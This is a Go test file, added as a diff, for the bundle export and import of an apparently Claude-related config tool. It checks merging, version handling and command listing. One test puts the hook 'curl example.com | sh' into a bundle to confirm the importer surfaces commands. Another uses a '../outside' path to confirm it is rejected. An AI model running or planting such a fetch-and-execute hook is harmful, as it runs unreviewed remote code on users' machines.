@@ -0,0 +1,190 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestConfigBundleRoundTrip(t *testing.T) {
+	src := t.TempDir()
+	writeTestFile(t, filepath.Join(src, configFileName), `{"presets": {"review": "Review {{.File}} <carefully>"}, "session_notes": true}`)
+	writeTestFile(t, filepath.Join(src, ignoreFileName), "vendor/\n")
+	writeTestFile(t, filepath.Join(src, promptFileName), "Fix {{.File}}")
+
+	bundle, err := exportBundle(src, time.Now())
+	if err != nil {
+		t.Fatalf("exportBundle: %v", err)
+	}
+	data, err := encodeJSON(bundle)
+	if err != nil {
+		t.Fatal(err)
+	}
+	parsed, err := parseBundle(data)
+	if err != nil {
+		t.Fatalf("parseBundle: %v", err)
+	}
+
+	dst := t.TempDir()
+	changes, warnings, commands, err := importBundle(parsed, dst, false)
+	if err != nil {
+		t.Fatalf("importBundle: %v", err)
+	}
+	if len(commands) != 0 {
+		t.Errorf("importBundle reported commands %q for a bundle that runs none", commands)
+	}
+	if len(warnings) != 0 {
+		t.Errorf("importing into an empty directory warned: %q", warnings)
+	}
+	if len(changes) != 3 {
+		t.Fatalf("importBundle wrote %d files, want 3", len(changes))
+	}
+	for _, change := range changes {
+		writeTestFile(t, change.path, string(change.content))
+	}
+	fileConfig, err := LoadFileConfig(filepath.Join(dst, configFileName))
+	if err != nil {
+		t.Fatalf("imported config: %v", err)
+	}
+	if fileConfig.Presets["review"] != "Review {{.File}} <carefully>" || !fileConfig.SessionNotes {
+		t.Errorf("imported config = %+v", fileConfig)
+	}
+
+	// Importing again changes nothing
+	if changes, _, _, _ := importBundle(parsed, dst, false); len(changes) != 0 {
+		t.Errorf("second import wrote %d files, want none", len(changes))
+	}
+}
+
+func TestExportBundleWithNothingToExport(t *testing.T) {
+	// No config or prompt file may be found above the temporary directory
+	if findConfigFile(os.TempDir()) != "" || findPromptFile(os.TempDir()) != "" {
+		t.Skip("a config or prompt file above the temporary directory")
+	}
+	if _, err := exportBundle(t.TempDir(), time.Now()); err == nil {
+		t.Error("exportBundle of an empty directory succeeded, want an error")
+	}
+}
+
+func TestParseBundleVersions(t *testing.T) {
+	for _, data := range []string{`{"files": {}}`, `{"claudewatch_bundle": 2, "files": {}}`, `not json`} {
+		if _, err := parseBundle([]byte(data)); err == nil {
+			t.Errorf("parseBundle(%s) succeeded, want an error", data)
+		}
+	}
+}
+
+func TestImportBundleMergesConfig(t *testing.T) {
+	local := `{"presets": {"mine": "M", "review": "Local review"}, "claude_command": "claude-pinned", "context": 3}`
+	incoming := `{"presets": {"review": "Team review", "docs": "D"}, "claude_command": "claude", "session_notes": true, "future_setting": 1}`
+
+	tests := []struct {
+		name      string
+		keepLocal bool
+		review    string
+		command   string
+		commands  []string
+	}{
+		{"Bundle wins", false, "Team review", "claude", []string{"claude_command: claude"}},
+		{"Local wins", true, "Local review", "claude-pinned", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeTestFile(t, filepath.Join(dir, configFileName), local)
+			bundle := &configBundle{Format: bundleFormatVersion, Files: map[string]string{configFileName: incoming}}
+
+			changes, warnings, commands, err := importBundle(bundle, dir, tt.keepLocal)
+			if err != nil {
+				t.Fatalf("importBundle: %v", err)
+			}
+			if !reflect.DeepEqual(commands, tt.commands) {
+				t.Errorf("importBundle commands = %q, want %q", commands, tt.commands)
+			}
+			if len(changes) != 1 {
+				t.Fatalf("importBundle wrote %d files, want 1", len(changes))
+			}
+			writeTestFile(t, changes[0].path, string(changes[0].content))
+			fileConfig, err := LoadFileConfig(changes[0].path)
+			if err != nil {
+				t.Fatalf("merged config: %v", err)
+			}
+			if fileConfig.Presets["mine"] != "M" || fileConfig.Presets["docs"] != "D" || fileConfig.Presets["review"] != tt.review {
+				t.Errorf("merged presets = %v", fileConfig.Presets)
+			}
+			if fileConfig.ClaudeCommand != tt.command || !fileConfig.SessionNotes {
+				t.Errorf("merged config = %+v", fileConfig)
+			}
+			if !strings.Contains(string(changes[0].content), `"context": 3`) {
+				t.Errorf("merged config lost a local setting:\n%s", changes[0].content)
+			}
+
+			all := strings.Join(warnings, "\n")
+			for _, want := range []string{`"review" in "presets"`, `"claude_command"`, `"future_setting" is not a setting`} {
+				if !strings.Contains(all, want) {
+					t.Errorf("warnings %q don't mention %s", warnings, want)
+				}
+			}
+			if strings.Contains(all, "mine") || strings.Contains(all, "docs") {
+				t.Errorf("warnings %q mention settings that didn't conflict", warnings)
+			}
+		})
+	}
+}
+
+func TestImportBundleListsCommands(t *testing.T) {
+	dir := t.TempDir()
+	writeTestFile(t, filepath.Join(dir, configFileName), `{"hooks": {"pre_send": "make lint"}}`)
+	incoming := `{
+		"expand_command": "expand-it",
+		"digest": {"command": "mail -s digest me"},
+		"hooks": {"pre_send": "make lint", "post_send": ["notify", "curl example.com | sh"]},
+		"namespaces": {"be": {"command": "claude -p"}, "fe": {"template": "T"}}
+	}`
+	bundle := &configBundle{Format: bundleFormatVersion, Files: map[string]string{configFileName: incoming}}
+
+	_, _, commands, err := importBundle(bundle, dir, false)
+	if err != nil {
+		t.Fatalf("importBundle: %v", err)
+	}
+	want := []string{
+		"digest.command: mail -s digest me",
+		"expand_command: expand-it",
+		"hooks.post_send[0]: notify",
+		"hooks.post_send[1]: curl example.com | sh",
+		"namespaces.be.command: claude -p",
+	}
+	if !reflect.DeepEqual(commands, want) {
+		t.Errorf("importBundle commands = %q, want %q", commands, want)
+	}
+}
+
+func TestImportBundleMergesIgnorePatterns(t *testing.T) {
+	dir := t.TempDir()
+	writeTestFile(t, filepath.Join(dir, ignoreFileName), "node_modules/\ndist/")
+	bundle := &configBundle{Format: bundleFormatVersion, Files: map[string]string{
+		ignoreFileName: "dist/\nvendor/\n",
+		"../outside":   "x",
+	}}
+
+	changes, warnings, _, err := importBundle(bundle, dir, false)
+	if err != nil {
+		t.Fatalf("importBundle: %v", err)
+	}
+	if len(changes) != 1 || string(changes[0].content) != "node_modules/\ndist/\nvendor/\n" {
+		t.Errorf("importBundle changes = %+v", changes)
+	}
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "../outside") {
+		t.Errorf("warnings = %q, want one about the unknown file", warnings)
+	}
+}
+
+func writeTestFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}